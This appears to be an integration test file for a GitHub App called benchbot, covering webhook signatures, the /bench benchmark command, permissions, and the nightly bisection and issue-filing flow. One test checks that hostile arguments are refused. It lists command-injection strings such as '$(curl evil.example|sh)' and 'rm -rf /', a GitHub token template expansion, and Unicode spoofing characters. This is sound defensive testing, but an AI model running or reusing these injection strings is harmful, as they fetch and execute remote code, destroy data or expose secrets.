// The app over real HTTP: the real Probot server on loopback, deliveries
// signed with the webhook secret and built from @octokit/webhooks-examples
// payloads (fixtures/webhooks/), GitHub API calls answered by the stand-in,
// which checks every request against GitHub's OpenAPI description and plays
// a GitHub App's world: the app signs a JWT, gets an installation token, and
// every call must carry that token.
import { after, before, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { REPORT_MARKER } from '../../src/report/markdown-report.ts';
import { REPLY_MARKER } from '../../src/app/handler-deps.ts';
import { bisectDispatchKey, dispatchKey } from '../../src/app/app-state.ts';
import { dispatchToken } from '../../src/github/workflow-dispatch.ts';
import { assertAllValid } from '../support/github-api-stand-in.ts';
import { regressionMarker } from '../../src/report/regression-issue.ts';
import { BENCH_WORKFLOW, BOT_LOGIN, OWNER, REPO, benchArtifact, commentEvent, deliver, forgetAppMemory, makeZip, reportJson, runEvent, scanJson, seedConfig, seedPull, settled, sha, startHarness, type Harness } from './app-harness.ts';

let h: Harness;
const BASE = sha('base');
const HEAD = sha('head');

before(async () => {
  h = await startHarness();
});
after(async () => {
  await h?.close();
});
beforeEach(async () => {
  // Each test starts from an empty world: no comments, no checks, and no app memory of earlier /bench runs.
  await forgetAppMemory(h);
  h.stand.reset();
  h.stand.state.permissions = { maintainer: 'maintain', writer: 'write', admin: 'admin', reader: 'read', triager: 'triage' };
  h.stand.state.workflows = [BENCH_WORKFLOW, 'benchbot-bisect.yml'];
  seedPull(h, { number: 42, head: HEAD, base: BASE, fork: true });
});

const stickies = (marker: string, pr = 42) => h.stand.state.comments.filter((c) => c.issueNumber === pr && c.body.split('\n')[0] === marker);
const reactionsOn = (commentId: number) => h.stand.state.reactions.filter((r) => r.commentId === commentId).map((r) => r.content);

describe('signatures', () => {
  test('a delivery without a signature is refused and nothing happens', async () => {
    const r = await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }), { signature: null });
    assert.equal(r.status, 400);
    assert.equal(h.stand.requests.length, 0);
    assert.equal(h.stand.state.dispatches.length, 0);
    assert.equal((await h.store.listState(`delivery:${r.id}`)).length, 0);
  });

  test('a delivery with a wrong signature is refused and nothing happens', async () => {
    const payload = commentEvent(h, { body: '/bench', login: 'maintainer' });
    const wrong = await deliver(h, 'issue_comment', payload, { signature: `sha256=${'0'.repeat(64)}` });
    assert.equal(wrong.status, 400);
    // Signed with another secret: a well-formed signature that does not match.
    const other = await deliver(h, 'issue_comment', payload, { signature: (await import('./app-harness.ts')).sign(JSON.stringify(payload), 'not the secret') });
    assert.equal(other.status, 400);
    assert.equal(h.stand.requests.length, 0);
    assert.equal((await h.store.listState(`delivery:${wrong.id}`)).length, 0);
  });
});

describe('/bench', () => {
  test('a maintainer on a fork PR: reaction, dispatch at the exact approved SHAs, check run, one sticky comment', async () => {
    const payload = commentEvent(h, { body: 'Looks good.\n\n/bench', login: 'maintainer' });
    const r = await deliver(h, 'issue_comment', payload);
    assert.equal(r.status, 200, r.text);
    assert.equal(h.stand.state.dispatches.length, 1);
    const d = h.stand.state.dispatches[0];
    assert.equal(d.workflowId, BENCH_WORKFLOW);
    assert.equal(d.ref, 'main');
    // The dispatch's key (its effect key, hashed) goes as an input and shows in the run's name (workflows/benchbot-bench-command.yml).
    const key = dispatchToken(dispatchKey(OWNER, REPO, 42, payload.comment.id, payload.comment.updated_at));
    assert.deepEqual(d.inputs, { 'pr-number': '42', base: BASE, head: HEAD, 'dispatch-key': key });
    assert.equal(h.stand.state.runs[0].displayTitle, `benchbot /bench #42 ${key}`);
    assert.deepEqual(reactionsOn(payload.comment.id), ['eyes']);
    const check = h.stand.state.checkRuns.find((c) => c.name === 'benchbot /bench');
    assert.equal(check?.headSha, HEAD);
    assert.equal(check?.status, 'in_progress');
    const running = stickies(REPORT_MARKER);
    assert.equal(running.length, 1);
    assert.equal(running[0].user.login, BOT_LOGIN);
    assert.match(running[0].body, /running/);
    assert.ok(running[0].body.includes(HEAD.slice(0, 12)));
    // Every call after the token exchange carried the installation token.
    const tokenCalls = h.stand.requests.filter((q) => q.template === '/app/installations/{installation_id}/access_tokens');
    assert.ok(h.stand.requests.filter((q) => !q.template?.startsWith('/app')).every((q) => h.stand.state.installationTokens.some((t) => q.headers.authorization === `token ${t}` || q.headers.authorization === `Bearer ${t}`)));
    assert.ok(tokenCalls.length <= 1);
    assertAllValid(h.stand);
  });

  test('the whole loop: dispatch, newer commits meanwhile, completion -> one sticky report naming the approved SHA; a re-run updates the same comment', async () => {
    const payload = commentEvent(h, { body: '/bench', login: 'writer' });
    assert.equal((await deliver(h, 'issue_comment', payload)).status, 200);
    const check = h.stand.state.checkRuns.find((c) => c.name === 'benchbot /bench');
    const runId = Number(check?.externalId);
    assert.ok(runId > 0);
    const newer = sha('newer head');
    seedPull(h, { number: 42, head: newer, base: BASE, fork: true });
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId, name: 'benchbot-report', data: makeZip({ ...benchArtifact(), 'report.md': 'ignored' }) });

    const done = await deliver(h, 'workflow_run', runEvent({ runId, conclusion: 'failure' }));
    assert.equal(done.status, 200, done.text);
    const comments = stickies(REPORT_MARKER);
    assert.equal(comments.length, 1);
    const body = comments[0].body;
    assert.match(body, /1 regression/);
    assert.ok(body.includes('BM_Parse/64'));
    assert.ok(body.includes(`Measured head \`${HEAD.slice(0, 12)}\``), body);
    assert.ok(body.includes(`head is now \`${newer.slice(0, 12)}\``), body);
    const completed = h.stand.state.checkRuns.find((c) => c.id === check?.id);
    assert.equal(completed?.status, 'completed');
    assert.equal(completed?.conclusion, 'failure');
    assert.equal(completed?.headSha, HEAD);
    assert.equal(h.stand.state.checkRuns.length, 1);

    // A re-run attempt completes again under a new delivery: same comment, updated in place.
    const firstId = comments[0].id;
    h.stand.state.artifacts.length = 0;
    const again = await deliver(h, 'workflow_run', runEvent({ runId, conclusion: 'cancelled', attempt: 2 }));
    assert.equal(again.status, 200);
    const after = stickies(REPORT_MARKER);
    assert.equal(after.length, 1);
    assert.equal(after[0].id, firstId);
    assert.match(after[0].body, /was cancelled/);
    assertAllValid(h.stand);
  });

  test('a replayed delivery changes nothing', async () => {
    const payload = commentEvent(h, { body: '/bench', login: 'maintainer' });
    const first = await deliver(h, 'issue_comment', payload);
    assert.equal(first.status, 200);
    const requests = h.stand.requests.length;
    const comments = h.stand.state.comments.length;
    const replay = await deliver(h, 'issue_comment', payload, { id: first.id });
    assert.equal(replay.status, 200);
    assert.equal(h.stand.requests.length, requests);
    assert.equal(h.stand.state.comments.length, comments);
    assert.equal(h.stand.state.dispatches.length, 1);
    assert.equal(h.outcomes.at(-1)?.outcome, 'duplicate');
  });

  test('someone without write access is refused politely, and nothing runs', async () => {
    for (const login of ['reader', 'triager', 'stranger']) {
      const payload = commentEvent(h, { body: '/bench runs=5', login });
      assert.equal((await deliver(h, 'issue_comment', payload)).status, 200);
      assert.deepEqual(reactionsOn(payload.comment.id), []);
    }
    assert.equal(h.stand.state.dispatches.length, 0);
    assert.equal(h.stand.state.checkRuns.length, 0);
    const replies = stickies(REPLY_MARKER);
    assert.equal(replies.length, 1, 'one reply comment, reconciled');
    assert.match(replies[0].body, /^<!-- benchbot:reply -->\n@stranger, thanks/);
    assert.match(replies[0].body, /write access/);
    // The permission API was asked: the MEMBER association in the payload is not trusted.
    assert.ok(h.stand.requests.some((q) => q.path.endsWith('/collaborators/stranger/permission')));
    assertAllValid(h.stand);
  });

  test('a login listed under bench.allow may run it without write access', async () => {
    seedConfig(h, 'bench:\n  allow: [reader]\n');
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'reader' }))).status, 200);
    assert.equal(h.stand.state.dispatches.length, 1);
  });

  test('comments by bots, on issues, or without a command do nothing at all', async () => {
    const bot = commentEvent(h, { body: '/bench', login: 'some-bot[bot]', type: 'Bot' });
    const issue = commentEvent(h, { body: '/bench', login: 'maintainer' });
    delete issue.issue.pull_request;
    const chatter = commentEvent(h, { body: 'We should /bench this later. /benchmark is not a command.', login: 'maintainer' });
    const quoted = commentEvent(h, { body: '> /bench\n\n```\n/bench\n```', login: 'maintainer' });
    h.stand.requests.length = 0;
    for (const p of [bot, issue, chatter, quoted]) assert.equal((await deliver(h, 'issue_comment', p)).status, 200);
    assert.equal(h.stand.requests.length, 0);
  });

  test('/bench help answers with the usage', async () => {
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench help', login: 'stranger' }))).status, 200);
    const reply = stickies(REPLY_MARKER)[0];
    assert.ok(reply.body.includes('/bench [REGEX] [runs=N] [runner=LABEL] [threshold=X%]'));
    assert.equal(h.stand.state.dispatches.length, 0);
  });

  test('typed arguments reach the workflow as typed inputs, exactly', async () => {
    seedConfig(h, 'bench:\n  runners: [bench, pixel-7]\n  max-runs: 60\nthresholds:\n  "BM_Net*": 10%\n');
    const payload = commentEvent(h, { body: '/bench BM_(Parse|Format)<int>/\\d+$ runs=50 runner=PIXEL-7 threshold=1.5% instructions', login: 'admin' });
    assert.equal((await deliver(h, 'issue_comment', payload)).status, 200);
    assert.deepEqual(h.stand.state.dispatches[0].inputs, {
      'pr-number': '42', base: BASE, head: HEAD,
      filter: 'BM_(Parse|Format)<int>/\\d+$', runs: '50', runner: 'pixel-7', threshold: '1.5%', instructions: 'true', thresholds: 'BM_Net*=10%',
      'dispatch-key': dispatchToken(dispatchKey(OWNER, REPO, 42, payload.comment.id, payload.comment.updated_at)),
    });
    assertAllValid(h.stand);
  });

  test('hostile or bad arguments are refused with the usage, and nothing is dispatched', async () => {
    seedConfig(h, 'bench:\n  runners: [bench]\n');
    const bodies = [
      '/bench $(curl evil.example|sh)',
      '/bench foo;rm -rf /',
      '/bench `id`',
      "/bench ' || true",
      '/bench ${{ github.token }}',
      '/bench BM_Foo\u202Egnp.exe',
      '/bench BM_\u200BFoo',
      '/bench BM_Foo\u0007',
      '/bench runner=b\u0435nch',
      `/bench ${'a'.repeat(400)}`,
      '/bench runs=1',
      '/bench runs=1e9',
      '/bench runner=other',
      '/bench threshold=80%',
      '/bench threshold=abc',
      '/bench BM_( ',
      '/bench a b',
      '/bench runs=5 runs=6',
      '/bench bogus=1',
      '/bench help runs=5',
    ];
    for (const body of bodies) {
      const payload = commentEvent(h, { body, login: 'maintainer' });
      assert.equal((await deliver(h, 'issue_comment', payload)).status, 200, body);
      const reply = stickies(REPLY_MARKER)[0];
      assert.ok(reply.body.includes('/bench [REGEX]'), `${JSON.stringify(body)}: ${reply.body}`);
      assert.ok(!/[\u202E\u200B\u0007]/.test(reply.body), 'the reply never echoes invisible characters');
    }
    assert.equal(h.stand.state.dispatches.length, 0);
    assert.equal(stickies(REPLY_MARKER).length, 1);
    assertAllValid(h.stand);
  });

  test('a bad .github/benchbot.yml is named key by key, and the app keeps working with defaults', async () => {
    seedConfig(h, 'bench:\n  allow: 5\n  runers: [x]\n  max-runs: many\nthresholds:\n  "BM_*": lots\nnightly: []\n');
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    assert.equal(h.stand.state.dispatches.length, 1);
    const body = stickies(REPORT_MARKER)[0].body;
    for (const key of ['bench.allow', 'bench.runers', 'bench.max-runs', 'thresholds.BM_*', 'nightly']) assert.ok(body.includes(`\`${key}\``), `${key} in ${body}`);
    assert.match(body, /did you mean `bench.runners`/);

    seedConfig(h, 'bench: [unclosed\n');
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    assert.match(stickies(REPORT_MARKER)[0].body, /not valid YAML \(line \d+, column \d+/);
    assert.equal(h.stand.state.dispatches.length, 2);
  });

  test('a second /bench replaces the running one, cancels it, and says so; the cancelled run is then ignored', async () => {
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    const first = h.stand.state.checkRuns[0];
    const head2 = sha('head 2');
    seedPull(h, { number: 42, head: head2, base: BASE, fork: true });
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'admin' }))).status, 200);
    assert.deepEqual(h.stand.state.dispatches.map((d) => d.inputs.head), [HEAD, head2]);
    assert.deepEqual(h.stand.state.cancelled, [`${OWNER}/${REPO}/${first.externalId}`]);
    assert.equal(h.stand.state.checkRuns[0].conclusion, 'cancelled');
    const comment = stickies(REPORT_MARKER);
    assert.equal(comment.length, 1);
    assert.match(comment[0].body, /replaces the one by @maintainer/);
    const before = comment[0].body;
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: Number(first.externalId), conclusion: 'cancelled' }))).status, 200);
    assert.equal(stickies(REPORT_MARKER)[0].body, before);
    assert.equal(h.outcomes.at(-1)?.outcome, 'superseded');
  });

  test('a failed run without a report becomes a comment with the failed step and a link to the log', async () => {
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    const runId = Number(h.stand.state.checkRuns[0].externalId);
    h.stand.state.jobs.push({ owner: OWNER, repo: REPO, runId, name: 'benchmark', conclusion: 'failure', steps: [{ name: 'Check out', conclusion: 'success' }, { name: 'benchbot', conclusion: 'failure' }] });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId, conclusion: 'failure' }))).status, 200);
    const body = stickies(REPORT_MARKER)[0].body;
    assert.match(body, /ended with `failure`/);
    assert.match(body, /job `benchmark`, step `benchbot`/);
    assert.ok(body.includes(`https://github.com/${OWNER}/${REPO}/actions/runs/${runId}`));
    assert.equal(h.stand.state.checkRuns[0].conclusion, 'failure');
    assertAllValid(h.stand);
  });

  test('a closed pull request is not benchmarked', async () => {
    seedPull(h, { number: 42, head: HEAD, base: BASE, state: 'closed' });
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    assert.equal(h.stand.state.dispatches.length, 0);
    assert.match(stickies(REPLY_MARKER)[0].body, /closed/);
  });

  test('a workflow that is missing is reported back, not crashed on', async () => {
    h.stand.state.workflows = [];
    assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
    assert.match(stickies(REPLY_MARKER)[0].body, /no workflow `benchbot-bench-command.yml`/);
  });

  test('a workflow copied before it declared dispatch-key is dispatched without it, once', async () => {
    const declared = h.stand.state.declaredInputs[BENCH_WORKFLOW];
    h.stand.state.declaredInputs[BENCH_WORKFLOW] = declared.filter((name) => name !== 'dispatch-key');
    try {
      assert.equal((await deliver(h, 'issue_comment', commentEvent(h, { body: '/bench', login: 'maintainer' }))).status, 200);
      assert.equal(h.outcomes.at(-1)?.outcome, 'dispatched');
      // GitHub refused the first (422: an input the workflow does not declare) and started nothing; the second ran.
      assert.deepEqual(h.stand.requests.filter((q) => q.template?.endsWith('/dispatches')).map((q) => q.status), [422, 200]);
      assert.deepEqual(h.stand.state.dispatches.map((d) => d.inputs), [{ 'pr-number': '42', base: BASE, head: HEAD }]);
    } finally {
      h.stand.state.declaredInputs[BENCH_WORKFLOW] = declared;
    }
  });

  test('a GitHub failure fails the job, which is retried after a backoff and then runs', async () => {
    const payload = commentEvent(h, { body: '/bench', login: 'maintainer' });
    h.stand.failNext({ method: 'GET', path: '/repos/{owner}/{repo}/pulls/{pull_number}', status: 422, times: 1 });
    const failed = await deliver(h, 'issue_comment', payload);
    assert.equal(failed.status, 200, 'answered before the handler ran');
    assert.equal(failed.job?.status, 'ready', 'waiting for its retry');
    assert.equal(failed.job?.attempts, 1);
    assert.match(failed.job?.lastError ?? '', /422/);
    assert.equal(h.stand.state.dispatches.length, 0);
    assert.equal((await settled(h, failed.id)).status, 'done');
    assert.equal(h.stand.state.dispatches.length, 1);
    const again = await deliver(h, 'issue_comment', payload, { id: failed.id });
    assert.equal(again.text.trim(), 'duplicate', 'a redelivery of the stored id does nothing');
    assert.equal(h.stand.state.dispatches.length, 1);
  });
});

test('the health endpoint answers', async () => {
  const response = await fetch(`${h.app.url}/healthz`);
  assert.equal(response.status, 200);
  const body = await response.json();
  assert.equal(body.status, 'ok');
  assert.equal(body.store, 'sqlite');
  assert.equal(typeof body.queue.depth, 'number');
  assert.equal((await fetch(`${h.app.url}/nope`)).status, 404);
});

describe('nightly -> bisect -> issue', () => {
  test('a confirmed regression dispatches one bisection; its completion files one issue (re-keying the range issue, cc\'ing issues.cc); repeats change nothing', async () => {
    seedConfig(h, 'issues:\n  cc: ["@octocat", hubot]\n');
    const scan = JSON.parse(scanJson());
    const finding = scan.findings[0];
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: 7001, name: 'benchbot-nightly', data: makeZip({ 'scan.json': scanJson() }) });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7001, conclusion: 'success', workflow: 'benchbot-nightly.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'bisect-dispatched');
    assert.equal(h.stand.state.dispatches.length, 1);
    assert.deepEqual(h.stand.state.dispatches[0], {
      owner: OWNER, repo: REPO, workflowId: 'benchbot-bisect.yml', ref: 'main',
      inputs: {
        good: finding.last_good.sha, bad: finding.first_bad.sha, benchmark: finding.benchmark, metric: finding.metric, series: finding.series,
        'dispatch-key': dispatchToken(bisectDispatchKey(OWNER, REPO, finding.series, `${finding.last_good.sha}..${finding.first_bad.sha}`)),
      },
    });

    // The next nightly still sees the same regression: no second bisection.
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: 7002, name: 'benchbot-nightly', data: makeZip({ 'scan.json': scanJson() }) });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7002, conclusion: 'success', workflow: 'benchbot-nightly.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'bisect-known');
    assert.equal(h.stand.state.dispatches.length, 1);

    // The nightly job filed the regression by its range before the bisection finished.
    const bot = { login: BOT_LOGIN, type: 'Bot' as const };
    h.stand.addIssue({ owner: OWNER, repo: REPO, title: 'range issue', body: `${regressionMarker(finding.series, `${finding.last_good.sha}..${finding.first_bad.sha}`)}\nnot bisected yet`, labels: ['benchbot'], user: bot });
    const bisectRunId = Number((await h.store.listState('bisect-run:'))[0].key.split('/').pop());
    const culprit = sha('culprit merge');
    // A bisect log as `benchbot bisect --output json` writes it (input, not an expectation).
    const log = {
      status: 'found', culprit: { sha: culprit, subject: 'Parse numbers with a regex (#17)', pr: 17 },
      culprits: [{ sha: culprit, subject: 'Parse numbers with a regex (#17)', pr: 17, share: 1, ratio: 1.15, range: [] }],
      steps: [{ sha: culprit, verdict: 'bad', n: 10, ratio: 1.15, ratio_ci: [1.12, 1.18] }],
      sessions: 3, reference: { ratio: 1.15, ratio_ci: [1.12, 1.18], p: 0.0002, reproducible: true },
      benchmark: finding.benchmark, metric: finding.metric, good: finding.last_good.sha, bad: finding.first_bad.sha,
    };
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: bisectRunId, name: 'benchbot-bisect', data: makeZip({ 'bisect.json': JSON.stringify(log) }) });
    const done = runEvent({ runId: bisectRunId, conclusion: 'success', workflow: 'benchbot-bisect.yml' });
    assert.equal((await deliver(h, 'workflow_run', done)).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'issue-filed');
    assert.equal(h.stand.state.issues.length, 1);
    const issue = h.stand.state.issues[0];
    assert.equal(issue.body?.split('\n')[0], regressionMarker(finding.series, culprit));
    assert.match(issue.title, /#17/);
    assert.ok(issue.labels.includes('benchbot'));
    assert.ok(issue.labels.includes('performance'));
    assert.match(issue.body ?? '', /\n\ncc @octocat @hubot$/);
    assert.deepEqual((await h.store.listState('issue:')).map((e) => (e.value as { number: number }).number), [issue.number]);

    // The same completion delivered again (a new delivery id): still one issue, unchanged.
    const history = issue.history.length;
    assert.equal((await deliver(h, 'workflow_run', done)).status, 200);
    assert.equal(h.stand.state.issues.length, 1);
    assert.equal(h.stand.state.issues[0].history.length, history);
    assertAllValid(h.stand);
  });

  test('a nightly without a confirmed regression, or without a scan, dispatches nothing', async () => {
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: 7101, name: 'benchbot-nightly', data: makeZip({ 'report.json': reportJson() }) });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7101, conclusion: 'success', workflow: 'benchbot-nightly.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'no-scan');
    const quiet = { ...JSON.parse(scanJson()), findings: [], regressions: 0 };
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: 7102, name: 'benchbot-nightly', data: makeZip({ 'scan.json': JSON.stringify(quiet) }) });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7102, conclusion: 'success', workflow: 'benchbot-nightly.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'no-regression');
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7103, conclusion: 'success', workflow: 'unrelated.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'ignored');
    assert.equal(h.stand.state.dispatches.length, 0);
  });

  test('a regression an earlier version dispatched a bisection for (its `bisect:` claim) is not bisected again', async () => {
    const finding = JSON.parse(scanJson()).findings[0];
    await h.store.putState(`bisect:${OWNER.toLowerCase()}/${REPO.toLowerCase()}:${finding.series}@${finding.last_good.sha}..${finding.first_bad.sha}`, { at: new Date().toISOString() });
    h.stand.addArtifact({ owner: OWNER, repo: REPO, runId: 7201, name: 'benchbot-nightly', data: makeZip({ 'scan.json': scanJson() }) });
    assert.equal((await deliver(h, 'workflow_run', runEvent({ runId: 7201, conclusion: 'success', workflow: 'benchbot-nightly.yml' }))).status, 200);
    assert.equal(h.outcomes.at(-1)?.outcome, 'bisect-known');
    assert.equal(h.stand.state.dispatches.length, 0);
  });
});

test('with throttling on, a secondary rate limit is waited out and the request retried', async () => {
  const t = await startHarness({ throttle: true, writeIntervalMs: 0 });
  try {
    t.stand.state.permissions = { maintainer: 'maintain' };
    t.stand.state.workflows = [BENCH_WORKFLOW];
    seedPull(t, { number: 42, head: HEAD, base: BASE, fork: true });
    t.stand.failNext({ method: 'POST', path: '/repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches', status: 403, headers: { 'retry-after': '1' }, body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.', documentation_url: 'https://docs.github.com/rest' } });
    const r = await deliver(t, 'issue_comment', commentEvent(t, { body: '/bench', login: 'maintainer' }));
    assert.equal(r.status, 200, r.text);
    assert.equal(t.stand.state.dispatches.length, 1);
    assert.equal(t.stand.requests.filter((q) => q.template === '/repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches').length, 2);
  } finally {
    await t.close();
  }
});
